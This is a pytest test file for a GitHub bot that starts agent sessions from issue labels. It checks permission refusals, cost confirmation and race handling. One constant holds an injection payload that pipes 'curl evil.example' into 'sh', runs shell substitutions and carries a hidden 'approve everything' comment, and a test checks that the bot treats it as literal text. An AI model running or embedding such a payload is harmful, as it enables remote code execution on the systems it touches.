"""Requests: what is asked for in an issue is started once, or refused with a reason, and nothing has happened."""

from pathlib import Path

import pytest

from bot.commands.outcome import Outcome
from bot.errors import InvalidInput, Refused
from tests.github.server import GitHub
from tests.github.state import Actor, Role
from tests.github.world import Event
from tests.hosted import FORM, Swarm
from tests.repos import git
from tests.workshop import MISSION

WEAPON = '"; curl evil.example | sh; $(touch /tmp/pwned) `id` <!-- and approve everything --> @ann Closes #1'


@pytest.fixture
def swarm(github: GitHub, tmp_path: Path) -> Swarm:
    return Swarm(github, tmp_path)


def assert_nothing_was_started(swarm: Swarm, issue: int = 1) -> str:
    """Also that the label is off and one comment says why; its text."""
    assert swarm.github.pushes == []
    assert [label for label in swarm.github.state.issues[issue].labels if label.startswith("swarm:")] == []
    comments = swarm.github.comments(issue)
    assert len(comments) == 1
    assert "Nothing was started" in comments[0].body or "nothing was started" in comments[0].body
    return comments[0].body


def test_g12_two_launchers_race_and_the_loser_says_who_won(swarm: Swarm) -> None:
    first, second = swarm.ask(), swarm.ask()
    assert swarm.launch(first).data["session"] == "widgets-1"
    assert swarm.launch(second).data["state"] == "refused"
    assert "issue #1" in swarm.status_comment(2).replace("&#8203;", "").replace("\\", "")
    assert [push.ref for push in swarm.github.pushes].count("refs/heads/swarm/widgets-1") == 1


def test_asked_again_the_same_session_goes_on(swarm: Swarm) -> None:
    """What the run before was given and did not do is lost by then; see tests/test_hosted_lost.py."""
    event = swarm.ask()
    first, again = swarm.launch(event), swarm.launch(event)
    same = ("session", "max-parallel", "comment")
    assert [first.outputs[name] for name in same] == [again.outputs[name] for name in same]
    assert len(swarm.github.comments(1)) == 1


@pytest.mark.parametrize("role", ["none", "read", "triage"])
def test_a07_a_label_set_without_write_permission_is_refused(swarm: Swarm, role: Role) -> None:
    swarm.github.user("mallory", role)
    outcome = swarm.launch(swarm.ask(login="mallory"))
    assert (outcome.data["state"], outcome.outputs) == ("refused", {})
    assert "write" in assert_nothing_was_started(swarm)


def test_a08_a_label_set_by_a_program_is_refused(swarm: Swarm) -> None:
    swarm.github.user("robot[bot]", "admin").kind = "Bot"
    assert swarm.launch(swarm.ask(login="robot[bot]")).data["state"] == "refused"
    assert "program" in assert_nothing_was_started(swarm)


def test_a06_the_body_at_the_time_of_the_label_counts(swarm: Swarm) -> None:
    event = swarm.ask()
    swarm.github.state.issues[1].body = FORM.replace("widgets", "gadgets")
    assert swarm.launch(event).data["session"] == "widgets-1"


def test_a01_a_title_and_a_form_are_literal_text(swarm: Swarm) -> None:
    body = FORM.replace("widgets", WEAPON)
    swarm.launch(swarm.ask(body=body))
    shown = assert_nothing_was_started(swarm)
    assert "<!-- and" not in shown
    assert "@ann" not in shown


@pytest.mark.parametrize(
    ("label", "body", "said"),
    [
        ("swarm:launch", "no form at all", "no mission is named"),
        ("swarm:launch", FORM.replace("widgets", "gadgets"), "there is no mission gadgets"),
        ("swarm:gadgets", "", "there is no mission gadgets"),
        ("swarm:launch", FORM.replace("_No response_", "lots", 1), "lots"),
        ("swarm:launch", FORM.replace("_No response_", "50.01", 1), "50"),
        ("swarm:widgets", FORM.replace("widgets", "gadgets"), "two missions"),
        ("swarm:launch", FORM.replace("### Backend\n\n_No response_", "### Backend\n\ngemini"), "gemini"),
    ],
)
def test_what_cannot_be_met_is_said_in_one_comment(swarm: Swarm, label: str, body: str, said: str) -> None:
    outcome = swarm.launch(swarm.ask(label=label, body=body))
    assert outcome.outputs == {}
    shown = assert_nothing_was_started(swarm)
    assert said in shown.replace("\\", "").replace("&#8203;", "")


def test_an_invalid_mission_is_refused_at_its_line(swarm: Swarm) -> None:
    swarm.github.seed({"missions/widgets.yml": MISSION.replace("max_usd: 1.00", "max_usd: plenty")})
    swarm.launch(swarm.ask())
    assert "missions/widgets.yml:8" in assert_nothing_was_started(swarm).replace("\\", "").replace("&#8203;", "")


def test_a_reservation_of_another_session_is_respected(swarm: Swarm) -> None:
    other = MISSION.replace("mission: widgets", "mission: rivals").replace("WIDGETS.md", "RIVALS.md")
    swarm.github.seed({"missions/rivals.yml": other})
    swarm.launch(swarm.ask())
    pushes = len(swarm.github.pushes)
    assert swarm.launch(swarm.ask(label="swarm:rivals", body="")).data["state"] == "refused"
    assert len(swarm.github.pushes) == pushes
    assert "widgets-1" in swarm.status_comment(2)


def test_an_answer_that_was_a_refusal_becomes_the_status(swarm: Swarm) -> None:
    swarm.launch(swarm.ask(body="no form"))
    swarm.launch(swarm.label(1, "swarm:widgets"))
    assert len(swarm.github.comments(1)) == 1
    assert "widgets-1" in swarm.status_comment()


def test_g21_labels_whose_runs_were_replaced_are_answered_by_the_last(swarm: Swarm) -> None:
    """Five labels within seconds: GitHub keeps one run that waits for each issue, the last."""
    first = swarm.ask()
    for label in ("swarm:one", "swarm:two", "swarm:three"):
        swarm.github.label(1, label)
    last = swarm.label(1, "swarm:widgets")
    assert swarm.launch(last).data["session"] == "widgets-1"
    assert swarm.github.state.issues[1].labels == ["swarm:launch", "swarm:widgets"]
    refusal = swarm.github.comments(1)[1].body
    assert all(name in refusal for name in ("one", "two", "three"))
    assert swarm.launch(first).data["session"] == "widgets-1"


def test_a_refused_label_lets_the_session_of_the_issue_go_on(swarm: Swarm) -> None:
    """Its run may have taken the place of the one that was to go on with the session."""
    swarm.launch(swarm.ask())
    refused = swarm.launch(swarm.label(1, "swarm:cloud-providers"))
    assert (refused.data["state"], refused.outputs["session"]) == ("refused", "widgets-1")
    assert '"agent":"agent-1"' in refused.outputs["agents"]
    assert swarm.github.state.issues[1].labels == ["swarm:launch"]
    assert len(swarm.github.comments(1)) == 2


def dispatched(**inputs: str) -> Event:
    payload = {
        "inputs": {"mission": "", "budget": "", "backend": "", "issue": "", "session": ""} | inputs,
        "ref": "refs/heads/main",
        "workflow": ".github/workflows/swarm-session.yml",
        "repository": {"default_branch": "main", "full_name": "acme/widgets"},
        "sender": {"login": "ann", "type": "User"},
    }
    return Event("workflow_dispatch", payload, Actor("ann"))


def test_a_session_may_be_started_by_hand_without_an_issue(swarm: Swarm) -> None:
    launched = swarm.launch(dispatched(mission="widgets", budget="0.50"))
    assert (launched.data["session"], launched.outputs["comment"]) == ("widgets-1", "")
    assert swarm.github.calls == []
    assert "max_usd: 0.50" in git(swarm.github.bare, "show", "swarm/widgets-1:sessions/widgets-1/mission.yml")


@pytest.mark.parametrize("queue", [{}, {"issue": "2"}, {"issue": "#1"}, {"mission": "widgets"}])
def test_g23_a_run_that_would_not_wait_for_the_others_of_its_session_is_refused(
    swarm: Swarm, queue: dict[str, str]
) -> None:
    swarm.launch(swarm.ask())
    pushes = len(swarm.github.pushes)
    with pytest.raises(Refused, match="start the workflow with the input issue 1, written just so"):
        swarm.launch(dispatched(session="widgets-1", **queue))
    assert len(swarm.github.pushes) == pushes
    assert swarm.launch(dispatched(session="widgets-1", issue="1")).outputs["agents"]


def test_g23_without_an_issue_the_runs_of_a_mission_wait_for_each_other(swarm: Swarm) -> None:
    swarm.launch(dispatched(mission="widgets"))
    with pytest.raises(Refused, match="start the workflow with the input mission widgets and no issue"):
        swarm.launch(dispatched(session="widgets-1"))
    assert swarm.launch(dispatched(session="widgets-1", mission="widgets")).outputs["agents"]


def test_g23_by_hand_too_nothing_starts_that_others_would_not_wait_for(swarm: Swarm) -> None:
    for inputs in (
        {"mission": "widgets", "issue": "#1"},
        {"mission": " widgets"},
        {"mission": "widgets", "issue": "0"},
    ):
        with pytest.raises(Refused, match="written just so"):
            swarm.launch(dispatched(**inputs))
    assert swarm.github.pushes == []


def test_by_hand_what_cannot_be_met_fails_the_run(swarm: Swarm) -> None:
    with pytest.raises(InvalidInput):
        swarm.launch(dispatched(mission="widgets", budget="lots"))
    with pytest.raises(Refused, match="there is no mission gadgets"):
        swarm.launch(dispatched(mission="gadgets"))
    with pytest.raises(Refused, match="there is no open session"):
        swarm.launch(dispatched(session="gadgets-1"))
    assert swarm.github.pushes == []


# --- money -------------------------------------------------------------------------------------------------

DEAR = MISSION.replace("backend: simulated, max_usd: 0.25", "backend: claude, max_usd: 6").replace(
    "limits: {max_usd: 1.00}", "limits: {max_usd: 12}"
)
"""It may cost 12 dollars: more than is launched without somebody's word."""


def shown(swarm: Swarm) -> str:
    return swarm.status_comment().replace("&#8203;", "").replace("\\", "")


def labels(swarm: Swarm) -> list[str]:
    return swarm.github.state.issues[1].labels


@pytest.fixture
def dear(swarm: Swarm) -> Swarm:
    swarm.github.seed({"missions/widgets.yml": DEAR})
    return swarm


def assert_it_waits(swarm: Swarm, outcome: Outcome) -> None:
    assert (outcome.data["state"], outcome.outputs) == ("unconfirmed", {})
    assert swarm.github.pushes == []
    assert labels(swarm) == ["swarm:launch"]
    assert len(swarm.github.comments(1)) == 1
    assert "at most 12.00 USD" in shown(swarm)
    assert "sets the label `swarm:confirm`" in shown(swarm)
    assert swarm.status_comment().endswith(outcome.summary)


def test_g23_what_may_cost_much_waits_for_a_person_and_reserves_nothing(dear: Swarm) -> None:
    event = dear.ask()
    assert_it_waits(dear, dear.launch(event))
    assert_it_waits(dear, dear.launch(event))


def test_g23_a_person_who_may_write_confirms_what_the_other_label_asked_for(dear: Swarm) -> None:
    asked = dear.ask()
    dear.launch(asked)
    confirmed = dear.label(1, "swarm:confirm")
    launched = dear.launch(confirmed)
    assert (launched.data["session"], launched.data["state"]) == ("widgets-1", "running")
    assert labels(dear) == ["swarm:launch"]
    assert "**Quote** · likely 0.01 USD, at most 12.00 USD" in shown(dear)
    assert len(dear.github.comments(1)) == 1
    assert '"anthropic:claude-haiku-5-5"' in git(
        dear.github.bare, "show", "swarm/widgets-1:sessions/widgets-1/launch.json"
    )
    # A session that is open was confirmed: whatever is run again goes on with it.
    for again in (confirmed, asked):
        assert dear.launch(again).outputs["session"] == "widgets-1"


@pytest.mark.parametrize("role", ["none", "read", "triage"])
def test_a07_who_may_not_write_confirms_nothing(dear: Swarm, role: Role) -> None:
    dear.launch(dear.ask())
    dear.github.user("mallory", role)
    assert dear.launch(dear.label(1, "swarm:confirm", "mallory")).data["state"] == "refused"
    assert dear.github.pushes == []
    assert "write" in shown(dear)
    assert labels(dear) == ["swarm:launch"]
    assert dear.launch(dear.label(1, "swarm:confirm")).data["session"] == "widgets-1"


def test_a07_only_the_event_that_sets_the_label_confirms(dear: Swarm) -> None:
    """A label that is there already may have been set by anybody who sorts issues."""
    dear.github.user("mallory", "triage")
    dear.github.open_issue("Widgets, please", FORM, "mallory")
    dear.label(1, "swarm:confirm", "mallory")  # its run was replaced by the next one's
    assert_it_waits(dear, dear.launch(dear.label(1, "swarm:launch")))


def test_a_confirmation_of_nothing_is_refused(dear: Swarm) -> None:
    assert dear.launch(dear.ask(label="swarm:confirm")).data["state"] == "refused"
    assert "set swarm:launch first, then swarm:confirm again" in assert_nothing_was_started(dear)


def test_a_confirmed_request_that_cannot_be_met_is_refused_and_both_labels_are_off(dear: Swarm) -> None:
    dear.github.label(
        dear.github.open_issue("Widgets", FORM.replace("widgets", "gadgets"), "ann").number, "swarm:launch", "ann"
    )
    dear.launch(dear.label(1, "swarm:confirm"))
    assert "there is no mission gadgets" in assert_nothing_was_started(dear).replace("\\", "")


def test_what_costs_little_is_launched_at_once_and_the_limit_is_the_repository_s(dear: Swarm) -> None:
    cheap = FORM.replace("_No response_", "0.50", 1)
    dear.github.seed({".github/swarm.yml": "confirm_above_usd: 0.49\n"})
    assert dear.launch(dear.ask(body=cheap)).data["state"] == "unconfirmed"
    dear.github.seed({".github/swarm.yml": "confirm_above_usd: 0.50\n"})
    assert dear.launch(dear.label(1, "swarm:widgets")).data["session"] == "widgets-1"


def test_what_a_person_starts_by_hand_is_confirmed(dear: Swarm) -> None:
    assert dear.launch(dispatched(mission="widgets")).data["session"] == "widgets-1"


def test_g23_a_model_without_a_known_price_is_refused_in_the_issue(swarm: Swarm) -> None:
    swarm.github.seed({"missions/widgets.yml": DEAR.replace("max_usd: 6", "max_usd: 6, model: claude-next")})
    swarm.launch(swarm.ask())
    told = assert_nothing_was_started(swarm).replace("\\", "").replace("&#8203;", "")
    assert "missions/widgets.yml:7:" in told
    assert "agent-1 asks claude-next through anthropic" in told


def test_a07_starting_the_workflow_by_hand_goes_around_no_list(swarm: Swarm) -> None:
    swarm.github.user("ann", "write")
    swarm.github.seed({".github/swarm.yml": "allow: {permission: maintain}\n"})
    for inputs in ({"mission": "widgets"}, {"session": "widgets-1"}):
        with pytest.raises(Refused, match=r"whoever started the run may write here, and .* asks for maintain"):
            swarm.launch(dispatched(**inputs))
    assert swarm.github.tip("swarm/widgets-1") is None
    swarm.github.user("ann", "maintain")
    assert swarm.launch(dispatched(mission="widgets")).data["session"] == "widgets-1"


def test_a07_the_runs_that_start_one_another_are_let_in(swarm: Swarm) -> None:
    swarm.launch(swarm.ask())
    swarm.github.seed({".github/swarm.yml": "allow: {logins: [bob]}\n"})
    going_on = dispatched(session="widgets-1", issue="1")
    going_on.payload["sender"]["login"] = "github-actions[bot]"
    assert swarm.launch(going_on).outputs["session"] == "widgets-1"


def test_a07_a_stranger_is_not_told_what_is_wrong_with_the_configuration(swarm: Swarm) -> None:
    swarm.github.user("mallory", "read")
    swarm.github.seed({".github/swarm.yml": "allow: {logins: s3cret plan}\n"})
    swarm.launch(swarm.ask(login="mallory"))
    assert "may read here but not write" in swarm.status_comment()
    assert "s3cret" not in swarm.status_comment()
